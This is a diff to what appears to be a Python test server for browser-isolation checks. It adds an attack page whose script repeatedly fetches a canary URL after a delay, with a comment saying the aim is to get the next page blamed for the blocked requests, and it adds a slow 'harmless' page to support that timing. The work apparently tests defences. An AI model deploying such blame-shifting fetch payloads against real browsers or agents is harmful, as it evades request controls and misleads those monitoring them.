@@ -12,6 +12,7 @@ from __future__ import annotations
 import itertools
 import json
 import threading
+import time
 from collections.abc import Iterator
 from contextlib import contextmanager
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
@@ -81,6 +82,11 @@ def attack_pages(canary: str) -> dict[str, str]:
             f"[\"fetch('{canary}/worker')\"], {{type: 'text/javascript'}})))"
         ),
         "/p/shared-worker": script.format("new SharedWorker('/shared-worker.js')"),
+        # starts trying once its own download is over, hoping to get the tab's next page
+        # blamed for the refusals (and to use the idle tab)
+        "/p/interval": script.format(
+            f"setTimeout(() => setInterval(() => fetch('{canary}/interval'), 5), 300)"
+        ),
         "/p/rebinding": script.format(
             "for (let i = 0; i < 6; i++) "
             "fetch('/data?' + i).then(r => r.text()).then(t => document.body.append(t))"
@@ -110,6 +116,8 @@ def public_handler(canary: str) -> type[BaseHTTPRequestHandler]:
             if parts.path == "/shared-worker.js":
                 self._send("text/javascript", f"fetch('{canary}/shared-worker')")
                 return
+            if parts.path == "/p/slow-harmless":  # the previous page has time to act
+                time.sleep(2)
             if parts.path == "/data":
                 self._send("text/plain", "public data ")
                 return
